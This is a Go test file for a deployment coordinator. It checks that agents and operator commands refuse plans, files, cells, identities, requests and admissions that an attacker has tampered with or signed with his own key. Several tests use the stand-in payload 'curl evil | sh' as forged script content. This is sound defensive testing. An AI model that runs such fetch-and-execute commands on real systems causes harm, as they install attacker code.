package coordinator_test

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/hotc-dev/hotc/compiler/contract"
	"github.com/hotc-dev/hotc/coordinator"
	"github.com/hotc-dev/hotc/coordinator/deploy"
	"github.com/hotc-dev/hotc/coordinator/member"
	"github.com/hotc-dev/hotc/coordinator/seal"
	"github.com/hotc-dev/hotc/coordinator/sign"
)

// In these tests the coordinator's operator is the attacker: he reads and writes every
// node, and knows all passwords, but no token and no deployment's secret.

// attacker holds a session that may do everything.
type attacker struct {
	t     *testing.T
	store coordinator.Store
}

func (b bed) attacker(t *testing.T) attacker { return attacker{t, b.operator(t)} }

func (a attacker) read(path coordinator.Path) string {
	a.t.Helper()
	node, err := a.store.Read(a.t.Context(), path)
	if err != nil {
		a.t.Fatal(err)
	}
	return string(node.Data)
}

func (a attacker) write(path coordinator.Path, text string) {
	a.t.Helper()
	err := a.store.Commit(a.t.Context(), coordinator.Op{Path: path, Version: coordinator.AnyVersion, Write: true, Data: []byte(text)})
	if err != nil {
		a.t.Fatal(err)
	}
}

func (a attacker) replace(path coordinator.Path, old, by string) {
	a.t.Helper()
	text := a.read(path)
	if !strings.Contains(text, old) {
		a.t.Fatalf("%s does not hold %s: %s", path, old, text)
	}
	a.write(path, strings.ReplaceAll(text, old, by))
}

// sign writes a record as the attacker can: with a key of his own.
func (a attacker) sign(kind string, server contract.ServerPath, item, record string) string {
	a.t.Helper()
	key, err := sign.DeriveKey("the attacker's", "his own")
	if err != nil {
		a.t.Fatal(err)
	}
	text, err := key.Sign(sign.Place{Kind: kind, Stack: string(site), Server: string(server), Item: item}, 1<<60, []byte(record))
	if err != nil {
		a.t.Fatal(err)
	}
	return string(text)
}

func bare(text string) string { return string(sign.Bare([]byte(text))) }

// disk is what a machine remembers.
type disk struct {
	kept   member.Remembered
	values member.Kept
}

func (d *disk) Keep(cell contract.CellName, r coordinator.CellRecord) error {
	if d.values == nil {
		d.values = member.Kept{}
	}
	d.values[cell] = r
	return nil
}
func (d *disk) Kept() (member.Kept, error)    { return d.values, nil }
func (d *disk) Remembered() member.Remembered { return d.kept }
func (d *disk) Remember(r member.Remembered) error {
	d.kept = d.kept.With(r)
	return nil
}

// comes is an agent with a disk at its start, up to its plan.
func (b bed) comes(t *testing.T, server contract.ServerPath, token string, d *disk) (*member.Member, *contract.Server, error) {
	t.Helper()
	m := member.Join(b.session(t, server), site, server, token)
	m.UseMemory(d)
	ctx, stop := context.WithCancel(t.Context())
	defer stop()
	err := m.AwaitDeployment(ctx, func(why string) { t.Errorf("it waits: %s", why); stop() })
	if err != nil {
		return m, nil, err
	}
	p, err := m.Plan(t.Context())
	return m, p, err
}

func expectForged(t *testing.T, what string, err error, words ...string) {
	t.Helper()
	if !errors.Is(err, coordinator.ErrForged) {
		t.Errorf("%s: %v", what, err)
		return
	}
	for _, word := range words {
		if !strings.Contains(err.Error(), word) {
			t.Errorf("%s: the error does not say %q: %v", what, word, err)
		}
	}
}

// An agent takes no plan, no keys and no identity that its operator has not signed for
// this server of this deployment.
func TestAForgedPlanIsRefused(t *testing.T) {
	evil := script("curl evil | sh\n")
	for what, attack := range map[string]func(a attacker){
		"another script": func(a attacker) { a.replace(site.ServerPlan("db"), mysqlScript, evil) },
		"not signed":     func(a attacker) { a.write(site.ServerPlan("db"), bare(a.read(site.ServerPlan("db")))) },
		"signed by somebody else": func(a attacker) {
			a.write(site.ServerPlan("db"), a.sign("plan", "db", "", bare(a.read(site.ServerPlan("db")))))
		},
		"another server's": func(a attacker) { a.write(site.ServerPlan("db"), a.read(site.ServerPlan("app"))) },
		"another record":   func(a attacker) { a.write(site.ServerPlan("db"), a.read(site.Root())) },
		"nothing":          func(a attacker) { a.write(site.ServerPlan("db"), "") },
		"in parts": func(a attacker) {
			path := site.ServerPlan("db")
			text := strings.ReplaceAll(a.read(path), mysqlScript, evil)
			if err := a.store.Create(a.t.Context(), []coordinator.NewNode{{Path: path.Join("0001"), Data: []byte(text),
				Grants: []coordinator.Grant{{To: secret.Operator(site), May: coordinator.MayAll}, {To: coordinator.ServerCredential("db", tokenOf("db")), May: coordinator.MayRead}}}}); err != nil {
				a.t.Fatal(err)
			}
			a.write(path, `{"parts":1}`)
		},
		"the keys of readers' sets": func(a attacker) { a.write(site.Keys("db"), a.sign("keys", "db", "", `{"sets":{"x":"y"}}`)) },
		"another server's identity": func(a attacker) { a.write(site.Identity("db"), a.read(site.Identity("app"))) },
		"another enrolment":         func(a attacker) { a.replace(site.Identity("db"), `"server":"db"`, `"server":"db","enrol":"once"`) },
		"another operator": func(a attacker) {
			var record coordinator.IdentityRecord
			var identity coordinator.Identity
			if err := errors.Join(json.Unmarshal([]byte(a.read(site.Identity("db"))), &record), json.Unmarshal(record.Identity, &identity)); err != nil {
				a.t.Fatal(err)
			}
			key, err := sign.DeriveKey("the attacker's", "his own")
			if err != nil {
				a.t.Fatal(err)
			}
			a.replace(site.Identity("db"), string(identity.Operator), string(key.Public()))
		},
		"an identity that is none": func(a attacker) { a.write(site.Identity("db"), "{}") },
	} {
		t.Run(what, func(t *testing.T) {
			b := inMemory()
			b.publish(t, threeTier())
			attack(b.attacker(t))
			_, p, err := b.comes(t, "db", tokenOf("db"), &disk{})
			expectForged(t, "the agent", err, "somebody has changed")
			if p != nil {
				t.Errorf("it has a plan: %+v", p)
			}
		})
	}
}

// A file with another content than the plan's digest says is refused.
func TestAForgedFileIsRefused(t *testing.T) {
	b := inMemory()
	b.publish(t, threeTier())
	m, _, err := b.comes(t, "db", tokenOf("db"), &disk{})
	if err != nil {
		t.Fatal(err)
	}
	b.attacker(t).write(site.File(mysqlScript), "curl evil | sh\n")
	_, err = m.File(t.Context(), mysqlScript)
	expectForged(t, "a file", err)
}

// A machine that has seen a plan takes no older one, and once it knows its operator no
// other one, even of somebody who has its token.
func TestAnOlderPlanIsRefused(t *testing.T) {
	b := inMemory()
	b.publish(t, threeTier())
	a, d := b.attacker(t), &disk{}
	m, _, err := b.comes(t, "app", tokenOf("app"), d)
	if err != nil {
		t.Fatal(err)
	}
	before, identity := a.read(site.ServerPlan("app")), a.read(site.Identity("app"))
	b.publish(t, withUpdate())
	if p, err := m.PlanAgain(t.Context()); err != nil || p.Roles[0].Files[0] != webAgain {
		t.Fatal(p, err)
	}
	a.write(site.ServerPlan("app"), before)
	if _, err := m.PlanAgain(t.Context()); !errors.Is(err, member.ErrOlder) {
		t.Errorf("the plan before: %v", err)
	}
	if _, _, err := b.comes(t, "app", tokenOf("app"), d); !errors.Is(err, member.ErrOlder) {
		t.Errorf("the plan before, after a restart: %v", err)
	}

	// the deployment is made anew: what was signed for the one before is worth nothing
	if err := deploy.Destroy(t.Context(), b.operator(t), site); err != nil {
		t.Fatal(err)
	}
	b.publish(t, threeTier())
	a.write(site.ServerPlan("app"), before)
	_, _, err = b.comes(t, "app", tokenOf("app"), &disk{})
	expectForged(t, "the plan of a deployment before", err)
	a.write(site.Identity("app"), identity) // all of it, to a machine that knows nothing: see docs/security.md
	if _, _, err = b.comes(t, "app", tokenOf("app"), &disk{}); err != nil {
		t.Errorf("the whole deployment before, to a new machine: %v", err)
	}
}

// Who has a server's token, and taps, can pretend to be the operator only to a machine
// that has never seen him.
func TestAnOperatorIsKnownAgain(t *testing.T) {
	b, d := inMemory(), &disk{}
	b.publish(t, threeTier())
	if _, _, err := b.comes(t, "app", tokenOf("app"), d); err != nil {
		t.Fatal(err)
	}
	a := b.attacker(t)
	his, err := sign.DeriveKey("the attacker's", "his own")
	if err != nil {
		t.Fatal(err)
	}
	var record coordinator.IdentityRecord
	var identity coordinator.Identity
	if err := errors.Join(json.Unmarshal([]byte(a.read(site.Identity("app"))), &record), json.Unmarshal(record.Identity, &identity)); err != nil {
		t.Fatal(err)
	}
	identity.Operator = his.Public()
	text, err := json.Marshal(identity)
	if err != nil {
		t.Fatal(err)
	}
	at := sign.Place{Kind: "identity", Stack: string(site), Deployment: identity.ID, Server: "app"}
	if record.Identity, err = his.Sign(at, 1<<60, text); err != nil {
		t.Fatal(err)
	}
	key, err := sign.Derive(tokenOf("app"), "hotc identity 1")
	if err != nil {
		t.Fatal(err)
	}
	record.MAC = sign.MAC(key, record.Identity)
	text, err = json.Marshal(record)
	if err != nil {
		t.Fatal(err)
	}
	a.write(site.Identity("app"), string(text))
	_, _, err = b.comes(t, "app", tokenOf("app"), d)
	expectForged(t, "another operator", err, "has known since it came first")
}

// A value, or a failure, that its writer has not signed for this very cell ends its
// reader with that reason; an older one is waited out.
func TestAForgedCellIsRefused(t *testing.T) {
	endpoint := site.Cell(contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"})
	address := site.Cell(contract.CellRef{Cell: "db:first_address", Server: "db"})
	for what, attack := range map[string]func(a attacker){
		"another value": func(a attacker) { a.replace(endpoint, "mysql://db", "mysql://evil") },
		"not signed":    func(a attacker) { a.write(endpoint, bare(a.read(endpoint))) },
		"a failure": func(a attacker) {
			a.write(endpoint, `{"state":"failed","incarnation":1,"cause":{"reason":"no"}}`)
		},
		"signed by somebody else": func(a attacker) {
			a.write(endpoint, a.sign("cell", "db", "db.mysql:endpoint", bare(a.read(endpoint))))
		},
		"another cell's": func(a attacker) { a.write(endpoint, a.read(address)) },
		"another incarnation": func(a attacker) {
			a.replace(endpoint, `"incarnation":1`, `"incarnation":2`)
		},
	} {
		t.Run(what, func(t *testing.T) {
			b := inMemory()
			b.publish(t, threeTier())
			db, app := b.agent(t, "db"), b.agent(t, "app")
			put(t, db, "db.mysql:endpoint", `"mysql://db"`)
			put(t, db, "db:first_address", `"10.0.0.5"`)
			attack(b.attacker(t))
			value, err := app.Await(within(t, patience), "db.mysql:endpoint", member.AwaitOptions{})
			expectForged(t, "its reader", err, "the value of db.mysql:endpoint is not as server db wrote it")
			if value != nil {
				t.Errorf("it reads %s", value)
			}
			_, err = readCell(t.Context(), b.operator(t), contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"})
			expectForged(t, "the operator's command", err)
		})
	}
}

func TestAnOlderCellIsNotRead(t *testing.T) {
	b := inMemory()
	b.publish(t, threeTier())
	a, d := b.attacker(t), &disk{}
	endpoint := site.Cell(contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"})
	put(t, b.agent(t, "db"), "db.mysql:endpoint", `"old"`)
	before := a.read(endpoint)
	m := member.Join(b.session(t, "db"), site, "db", tokenOf("db"))
	if _, err := m.Plan(t.Context()); err != nil {
		t.Fatal(err)
	}
	if _, err := m.Enrol(t.Context(), "the next", "i-2", false, noon); err != nil {
		t.Fatal(err)
	}
	put(t, m, "db.mysql:endpoint", `"new"`)
	app, _, err := b.comes(t, "app", tokenOf("app"), d)
	if err != nil {
		t.Fatal(err)
	}
	expectValue(t, app, "db.mysql:endpoint", `"new"`)
	a.write(endpoint, before)
	again, _, err := b.comes(t, "app", tokenOf("app"), d)
	if err != nil {
		t.Fatal(err)
	}
	for what, m := range map[string]*member.Member{"the agent": app, "the next one": again} {
		if record, err := m.Cell(t.Context(), "db.mysql:endpoint"); err != nil || record.State != coordinator.Empty {
			t.Errorf("%s reads the machine's value that is gone: %+v, %v", what, record, err)
		}
	}

	// within one incarnation: a failure that was taken back
	cause := map[contract.CellName]*coordinator.Cause{"app.web:port": {Reason: "no"}}
	web := b.agent(t, "app")
	if err := web.Report(t.Context(), coordinator.ServerState{Phase: coordinator.PhaseFailed}, cause); err != nil {
		t.Fatal(err)
	}
	port := site.Cell(contract.CellRef{Cell: "app.web:port", Server: "app"})
	failed := a.read(port)
	if err := web.TakeBack(t.Context(), []contract.CellName{"app.web:port"}, false); err != nil {
		t.Fatal(err)
	}
	put(t, web, "app.web:port", "80")
	lb := b.agent(t, "lb")
	expectValue(t, lb, "app.web:port", "80")
	a.write(port, failed)
	if record, err := lb.Cell(t.Context(), "app.web:port"); err != nil || record.State != coordinator.Empty {
		t.Errorf("it reads the failure that was taken back: %+v, %v", record, err)
	}
}

// Requests that no operator has signed for this server are not answered.
func TestForgedRequestsAreRefused(t *testing.T) {
	b := inMemory()
	b.publish(t, threeTier())
	a, db := b.attacker(t), b.agent(t, "db")
	post := func(server contract.ServerPath, id string) {
		t.Helper()
		r := coordinator.Request{ID: id, Kind: coordinator.Action, Incarnation: 1, Role: "mysql", Name: "backup", Since: noon}
		if err := reading(t, b.operator(t)).Post(t.Context(), []deploy.Posting{{Server: server, Request: r}}, nil); err != nil {
			t.Fatal(err)
		}
	}
	post("db", "one")
	first := a.read(site.Requests("db"))
	post("db", "two")
	if asked, err := db.Requests(t.Context()); err != nil || len(asked) != 2 {
		t.Fatal(asked, err)
	}
	a.write(site.Requests("db"), first)
	if asked, err := db.Requests(t.Context()); !errors.Is(err, member.ErrOlder) || asked != nil {
		t.Errorf("the requests before: %+v, %v", asked, err)
	}
	post("app", "three")
	for what, text := range map[string]string{
		"another server's":        a.read(site.Requests("app")),
		"changed":                 strings.Replace(first, "backup", "wipe", 1),
		"not signed":              bare(first),
		"signed by somebody else": a.sign("requests", "db", "", bare(first)),
	} {
		a.write(site.Requests("db"), text)
		asked, err := db.Requests(t.Context())
		expectForged(t, what, err, "what server db is asked for")
		if asked != nil {
			t.Errorf("%s: it is asked for %+v", what, asked)
		}
		r := coordinator.Request{ID: "four", Kind: coordinator.Action, Role: "mysql", Name: "backup", Since: noon}
		err = reading(t, b.operator(t)).Post(t.Context(), []deploy.Posting{{Server: "db", Request: r}}, nil)
		expectForged(t, what+", and the operator signs it with a request of his own", err)
	}
}

// Nothing is sealed for a public key that the reader's server has not signed.
func TestNothingIsSealedForAForgedKey(t *testing.T) {
	b := inMemory()
	b.publish(t, withPassword())
	a, spy := b.attacker(t), newMachine(t, "app", "spy")
	db := newMachine(t, "db", "d1")
	m := member.Join(b.session(t, "db"), site, "db", tokenOf("db"))
	if _, err := m.Plan(t.Context()); err != nil {
		t.Fatal(err)
	}
	m.UseKey(db.key)
	if _, err := m.Enrol(t.Context(), db.id, "i-db", false, noon); err != nil {
		t.Fatal(err)
	}
	put(t, m, password, `"hush"`)
	for what, text := range map[string]string{
		"not signed":              `{"incarnation":1,"key":"` + spy.key.Public() + `"}`,
		"signed by somebody else": a.sign("public", "app", "", `{"incarnation":1,"key":"`+spy.key.Public()+`"}`),
	} {
		a.write(site.Public("app"), text)
		said := make(chan error, 10)
		ctx, stop := context.WithCancel(t.Context())
		ended := make(chan error, 1)
		go func() { ended <- m.KeepSealed(ctx, func(err error) { said <- err }) }()
		expectForged(t, what, soon(t, said), "nothing is sealed for server app")
		stop()
		soon(t, ended)
		if seals := a.read(site.SealsFor("db", "app")); seals != "{}" {
			t.Errorf("%s: it is sealed for the key: %s", what, seals)
		}
	}
}

// What an operator gives is signed too: a box that somebody else has sealed is refused.
func TestAForgedSecretIsRefused(t *testing.T) {
	b := inMemory()
	p := withGiven("app")
	b.publish(t, p)
	b.give(t, p, `"hush"`)
	a := b.attacker(t)
	app := b.agentWithKey(t, newMachine(t, "app", "a1"))
	box, _, err := seal.Close([]byte(`"evil"`), "hotc box 1\nsite\n"+string(givenPassword))
	if err != nil {
		t.Fatal(err)
	}
	a.write(site.Cell(p.Secrets[0].Ref()), `{"state":"value","incarnation":9,"sealed":"`+box+`"}`)
	_, err = app.Cell(t.Context(), givenPassword)
	expectForged(t, "the reader", err, "as the deployment's operator wrote it")
	b.give(t, p, `"again"`)
	expectValue(t, app, givenPassword, `"again"`)
	a.write(site.Cell(p.Secrets[0].Ref()), `{{{`)
	b.give(t, p, `"once more"`)
	expectValue(t, app, givenPassword, `"once more"`)
}

// Who shows the identity of a deployment that was there before, and a record that its server
// has not signed, does not make an agent believe that its deployment is gone.
func TestAnOlderIdentityEndsNoAgent(t *testing.T) {
	b := inMemory()
	b.publish(t, threeTier())
	a, app := b.attacker(t), newRemains(t, "app", "a1")
	b.mustBegin(t, app, 0)
	before := a.read(site.Identity("app"))
	b.lose(t)
	b.restore(t, threeTier())
	m := b.mustBegin(t, app, 1)
	db := b.agent(t, "db")
	put(t, db, "db.mysql:endpoint", `"here"`)
	now := a.read(site.Identity("app"))
	a.write(site.Identity("app"), before)
	a.replace(site.Cell(contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"}), "here", "evil")
	if _, err := m.Cell(t.Context(), "db.mysql:endpoint"); errors.Is(err, member.ErrDestroyed) || !errors.Is(err, coordinator.ErrForged) {
		t.Errorf("it ends: %v", err)
	}
	a.write(site.Identity("app"), now)
	a.replace(site.Cell(contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"}), "evil", "here")
	expectValue(t, m, "db.mysql:endpoint", `"here"`)
}

func (b bed) agentWithKey(t *testing.T, of machine) *member.Member {
	t.Helper()
	m := member.Join(b.session(t, of.server), site, of.server, tokenOf(of.server))
	if _, err := m.Plan(t.Context()); err != nil {
		t.Fatal(err)
	}
	m.UseKey(of.key)
	if _, err := m.Enrol(t.Context(), of.id, "i-"+of.id, false, noon); err != nil {
		t.Fatal(err)
	}
	return m
}

// Where tokens are good for one enrolment, the coordinator's operator sees the server's
// password, and lets nobody in by it; nor does he learn of the key by which it signs.
func TestAForgedAdmissionIsRefused(t *testing.T) {
	b := inMemory()
	b.publishOnce(t, threeTier())
	b.join(t, newMachine(t, "app", "a1"), false)
	a, later := b.attacker(t), newMachine(t, "app", "a2")
	var pass coordinator.PassRecord
	if err := json.Unmarshal([]byte(a.read(site.Pass("app"))), &pass); err != nil {
		t.Fatal(err)
	}
	place := "hotc admission 1\nsite\napp\n"
	box, content, err := seal.Close([]byte(pass.Password), place+"password")
	if err != nil {
		t.Fatal(err)
	}
	key, err := content.Wrap(later.key.Public(), place+"key")
	if err != nil {
		t.Fatal(err)
	}
	a.write(site.Admission("app"), `{"to":"`+seal.ID(later.key.Public())+`","box":"`+box+`","key":"`+key+`"}`)
	err = b.knocking(t, later).AwaitDeployment(within(t, patience), func(why string) { t.Errorf("it waits: %s", why) })
	expectForged(t, "the machine", err)

	// with another password in its pass, the first machine would sign with another key
	a.write(site.Pass("db"), `{"password":"`+strings.Repeat("0", 64)+`"}`)
	m := b.knocking(t, newMachine(t, "db", "d1"))
	err = m.AwaitDeployment(within(t, patience), nil)
	if err == nil {
		_, err = m.Plan(t.Context())
	}
	if err == nil {
		t.Error("a machine works with a password that is not its operator's")
	}
}

// What an agent finds of its own it believes only if it has signed it: else it would
// take a role for done that never ran.
func TestAnAgentsOwnRecordsAreItsOwn(t *testing.T) {
	b := inMemory()
	b.publish(t, threeTier())
	a, db := b.attacker(t), b.agent(t, "db")
	if err := db.Answer(t.Context(), []coordinator.Answer{{ID: "one", Status: coordinator.AnswerDone}}); err != nil {
		t.Fatal(err)
	}
	state := `{"incarnation":1,"phase":"done","roles":[{"name":"mysql","status":"done"}]}`
	for what, text := range map[string]string{"not signed": state, "signed by somebody else": a.sign("state", "db", "", state)} {
		a.write(site.State("db"), text)
		_, err := db.State(t.Context())
		expectForged(t, what, err)
		v, err := deploy.TakeSnapshot(t.Context(), b.operator(t), site, secret, threeTier())
		if err != nil || len(v.Servers[0].Unreadable) != 1 || !strings.Contains(v.Servers[0].Unreadable[0], coordinator.ErrForged.Error()) || v.Servers[0].State.Phase != "" {
			t.Errorf("%s, to an operator: %+v, %v", what, v, err)
		}
	}
	a.replace(site.Answers("db"), `"done"`, `"refused"`)
	_, err := db.Answers(t.Context())
	expectForged(t, "its answers", err)
	a.replace(site.Server("db"), `"number":1`, `"number":7`)
	again := member.Join(b.session(t, "db"), site, "db", tokenOf("db"))
	again.RememberTries(1, func(int) error { return nil })
	if _, err := again.Plan(t.Context()); err != nil {
		t.Fatal(err)
	}
	_, err = again.Enrol(t.Context(), "journal-db", "i-db", true, noon)
	expectForged(t, "its incarnation", err, "number 7")
}

// Operators' commands believe what operators have signed.
func TestAForgedDeploymentIsRefused(t *testing.T) {
	read := func(b bed, t *testing.T) error {
		_, err := deploy.ReadPlan(t.Context(), b.operator(t), site, secret)
		return err
	}
	apply := func(b bed, t *testing.T) error {
		_, err := b.apply(t, withUpdate())
		return err
	}
	for what, c := range map[string]struct {
		attack func(a attacker)
		use    func(b bed, t *testing.T) error
	}{
		"another plan": {func(a attacker) { a.replace(site.Plan(), mysqlScript, webScript) }, read},
		"another plan with its digest": {func(a attacker) {
			p := strings.ReplaceAll(a.read(site.Plan()), mysqlScript, webScript)
			a.replace(site.Root(), digest(a.read(site.Plan())), digest(p))
			a.write(site.Plan(), p)
		}, read},
		"a record that is not signed": {func(a attacker) { a.write(site.Root(), bare(a.read(site.Root()))) }, read},
		"apply, on another record":    {func(a attacker) { a.replace(site.Root(), `"format":3`, `"format":3,"enrol":"once"`) }, apply},
		"apply, on another part":      {func(a attacker) { a.replace(site.ServerPlan("app"), webScript, mysqlScript) }, apply},
		"apply, on other requests": {func(a attacker) {
			a.write(site.State("app"), "{}")
			a.write(site.Requests("app"), `{"requests":[{"id":"x","kind":"action","incarnation":1,"role":"web","name":"wipe"}]}`)
		}, func(b bed, t *testing.T) error {
			stands(t, b.agent(t, "app"), "web", coordinator.RoleDone)
			return apply(b, t)
		}},
	} {
		t.Run(what, func(t *testing.T) {
			b := inMemory()
			b.publish(t, threeTier())
			c.attack(b.attacker(t))
			expectForged(t, what, c.use(b, t))
		})
	}
}

// What another hotc has applied is told from what somebody has forged.
func TestOtherFormats(t *testing.T) {
	b := inMemory()
	b.publish(t, threeTier())
	a := b.attacker(t)
	var other *coordinator.FormatError
	root, identity := a.read(site.Root()), a.read(site.Identity("db"))
	a.write(site.Root(), `{"format":1,"plan":"x","created":"2026-01-01T00:00:00Z"}`)
	if _, err := b.apply(t, threeTier()); !errors.As(err, &other) || !strings.Contains(err.Error(), "older hotc") {
		t.Errorf("apply: %v", err)
	}
	a.write(site.Root(), strings.Replace(root, `"format":3`, `"format":4`, 1))
	if _, err := deploy.ReadPlan(t.Context(), b.operator(t), site, secret); !errors.As(err, &other) || !strings.Contains(err.Error(), "newer hotc") {
		t.Errorf("a later one: %v", err)
	}
	a.write(site.Identity("db"), strings.Replace(identity, `"format":3`, `"format":4`, 1))
	if _, _, err := b.comes(t, "db", tokenOf("db"), &disk{}); !errors.As(err, &other) || !strings.Contains(err.Error(), "newer hotc") {
		t.Errorf("an agent: %v", err)
	}
	if err := a.store.DeleteTree(t.Context(), site.Identity("db")); err != nil {
		t.Fatal(err)
	}
	if _, _, err := b.comes(t, "db", tokenOf("db"), &disk{}); !errors.As(err, &other) || !strings.Contains(err.Error(), "older hotc") {
		t.Errorf("an agent, and there is no identity: %v", err)
	}
	if err := deploy.Destroy(t.Context(), b.operator(t), site); err != nil {
		t.Errorf("it cannot be destroyed: %v", err)
	}
}

// What an operator's command reads of a server, of requests and of admissions it believes
// only if it is signed: else it would forget requests that nobody has answered, take back
// values, or hide machines that ask to be let in.
func TestAnOperatorReadsNothingForged(t *testing.T) {
	b := inMemory()
	b.publish(t, threeTier())
	a, db, app := b.attacker(t), b.agent(t, "db"), b.agent(t, "app")
	request := func(id string) []deploy.Posting {
		return []deploy.Posting{{Server: "db", Request: coordinator.Request{ID: id, Kind: coordinator.Action, Incarnation: 1, Role: "mysql", Name: "backup", Since: noon}}}
	}
	if err := reading(t, b.operator(t)).Post(t.Context(), request("one"), nil); err != nil {
		t.Fatal(err)
	}
	for _, m := range []*member.Member{db, app} {
		if err := m.Answer(t.Context(), []coordinator.Answer{{ID: "zero", Status: coordinator.AnswerDone}}); err != nil {
			t.Fatal(err)
		}
	}
	answers := a.read(site.Answers("db"))
	if found, err := reading(t, b.operator(t)).Answers(t.Context(), "db"); err != nil || len(found) != 1 {
		t.Errorf("its own answers: %+v, %v", found, err)
	}
	all := map[string]string{
		"changed":                 strings.Replace(answers, "zero", "one", 1),
		"another server's":        a.read(site.Answers("app")),
		"not signed":              `{"answers":[{"id":"one","status":"done"}]}`,
		"signed by somebody else": a.sign("answers", "db", "", `{"answers":[{"id":"one","status":"done"}]}`),
	}
	for what, text := range all {
		a.write(site.Answers("db"), text)
		found, err := reading(t, b.operator(t)).Answers(t.Context(), "db")
		expectForged(t, what, err, "what server db has answered")
		if len(found) > 0 {
			t.Errorf("%s: %+v", what, found)
		}
		v, err := deploy.TakeSnapshot(t.Context(), b.operator(t), site, secret, threeTier())
		if err != nil || len(v.Servers[0].Unreadable) != 1 || len(v.Servers[0].Answers) != 0 {
			t.Errorf("%s, to a command that shows all: %+v, %v", what, v.Servers[0], err)
		}
	}
	if err := reading(t, b.operator(t)).Post(t.Context(), request("two"), nil); err != nil {
		t.Fatal(err)
	}
	if asked, err := db.Requests(t.Context()); err != nil || len(asked) != 2 {
		t.Errorf("a request that nobody has answered is forgotten: %+v, %v", asked, err)
	}
	a.write(site.Requests("db"), bare(a.read(site.Requests("db"))))
	_, err := reading(t, b.operator(t)).Requests(t.Context(), "db")
	expectForged(t, "requests", err, "what server db is asked for", "the deployment's operator wrote it")

	put(t, db, "db.mysql:endpoint", `"here"`)
	cell := contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"}
	value := a.read(site.Cell(cell))
	a.write(site.Cell(cell), strings.Replace(value, `"value","incarnation"`, `"failed","incarnation"`, 1))
	if err := reading(t, b.operator(t)).Post(t.Context(), []deploy.Posting{{Server: "app", Request: request("three")[0].Request}}, []contract.CellRef{cell}); err != nil {
		t.Fatal(err)
	}
	if got := a.read(site.Cell(cell)); !strings.Contains(got, "here") {
		t.Errorf("a value that somebody has marked as failed is taken back: %s", got)
	}
}

// Who is let in as a server is what the operator has signed: who puts another record there
// hides no machine that asks.
func TestAForgedAdmissionHidesNobody(t *testing.T) {
	b := inMemory()
	b.publishOnce(t, withGiven("app"))
	a := b.attacker(t)
	b.join(t, newMachine(t, "app", "a1"), false)
	asks := newMachine(t, "app", "a2")
	entered := b.ask(t, asks)
	record := `{"to":"` + seal.ID(asks.key.Public()) + `","box":"","key":""}`
	for what, text := range map[string]string{"not signed": record, "signed by somebody else": a.sign("admission", "app", "", record)} {
		a.write(site.Admission("app"), text)
		_, err := reading(t, b.operator(t)).Knocks(t.Context(), "app")
		expectForged(t, what, err, "who is let in as server app")
		v, err := deploy.TakeSnapshot(t.Context(), b.operator(t), site, secret, withGiven("app"))
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range v.Servers {
			if s.Path == "app" && (len(s.Knocks) != 1 || len(s.Unreadable) != 1) {
				t.Errorf("%s: %+v", what, s)
			}
		}
	}
	if _, err := reading(t, b.operator(t)).Admit(t.Context(), "app", asks.key.Public()); err != nil {
		t.Fatal(err)
	}
	soon(t, entered) // let in, or it has seen what was forged, and asks once more
	b.join(t, asks, false)
}
